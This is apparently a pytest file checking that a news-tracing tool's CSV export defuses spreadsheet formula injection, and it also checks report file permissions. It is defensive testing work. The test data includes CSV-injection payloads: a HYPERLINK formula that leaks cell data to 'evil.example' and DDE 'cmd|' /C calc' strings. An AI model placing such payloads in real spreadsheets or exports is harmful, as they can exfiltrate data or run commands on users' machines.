"""findings.csv: one row per finding with the report.json fields; safe to open in a spreadsheet."""
from __future__ import annotations

import csv
import json

from report_helpers import build_hostile_report

from storytrace.outputs import csv_report


def _rows(report, tmp_path):
    path = csv_report.write(report, tmp_path / "findings.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_one_row_per_finding_with_contract_fields(tmp_path):
    rows = _rows(build_hostile_report(), tmp_path)
    assert [r["id"] for r in rows] == ["f-swap", "f-num", "f-add"]
    swap = rows[0]
    assert swap["story"] == "story-1" and swap["severity"] == "high" and swap["derived_value"] == "Hana Morikawa"
    assert json.loads(swap["against"]) == ["wire-original", "daily-translation"]
    start, end = json.loads(swap["claim_span"])
    text = build_hostile_report().article("blog-rewrite").original_text
    assert text[start:end] == swap["claim"]
    assert rows[2]["source_span"] == "null"


def test_formula_like_cells_are_defused_but_numbers_kept(tmp_path):
    report = build_hostile_report()
    f = report.stories[0].findings
    f[0].derived_value = '=HYPERLINK("http://evil.example","click")'
    f[0].explanation = "@SUM(A1:A9)"
    f[1].derived_value, f[1].source_value = "-3%", "+4%"
    f[2].claim = "-cmd|' /C calc'!A0"
    rows = _rows(report, tmp_path)
    assert rows[0]["derived_value"] == "'" + f[0].derived_value
    assert rows[0]["explanation"] == "'@SUM(A1:A9)"
    assert (rows[1]["derived_value"], rows[1]["source_value"]) == ("-3%", "+4%")
    assert rows[2]["claim"].startswith("'-cmd")


def test_a_sign_followed_by_a_digit_is_no_way_past_the_defusing(tmp_path):
    """OWASP's rule: any cell beginning with =, +, -, @, tab or CR is escaped unless it is wholly a number."""
    report = build_hostile_report()
    f = report.stories[0].findings
    f[0].derived_value = '-1+HYPERLINK("http://evil.example/?leak="&A1,"click")'
    f[0].source_value = "+1-1+cmd|' /C calc'!A0"
    f[1].derived_value, f[1].source_value = "-1,200", "+4.5%"
    f[1].explanation = "\t=1+1"
    f[2].article = "=cmd"  # an id comes from a file name
    rows = _rows(report, tmp_path)
    assert rows[0]["derived_value"] == "'" + f[0].derived_value
    assert rows[0]["source_value"] == "'" + f[0].source_value
    assert (rows[1]["derived_value"], rows[1]["source_value"]) == ("-1,200", "+4.5%")
    assert rows[1]["explanation"] == "'\t=1+1"
    assert rows[2]["article"] == "'=cmd"
    assert float(rows[0]["confidence"]) == f[0].confidence  # numbers stay numbers


def test_report_files_are_readable_as_the_umask_allows(tmp_path):
    """Reports are written through a private temporary file; the result must not stay owner-only."""
    import os

    from storytrace.outputs.json_report import write_atomic

    old = os.umask(0o022)
    try:
        path = write_atomic(tmp_path / "report.json", "{}")
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644
    assert not list(tmp_path.glob("*.tmp"))


def test_csv_says_which_findings_lie_between_versions_whose_order_is_unknown(tmp_path):
    import csv

    from report_helpers import build_unordered_report

    from storytrace.outputs import csv_report

    path = csv_report.write(build_unordered_report(), tmp_path / "findings.csv")
    rows = {r["id"]: r for r in csv.DictReader(path.open(encoding="utf-8"))}
    assert (rows["f-num"]["direction_known"], rows["f-name"]["direction_known"]) == ("false", "true")
    assert list(rows["f-num"])[-1] == "direction_known"  # added last: earlier columns keep their places
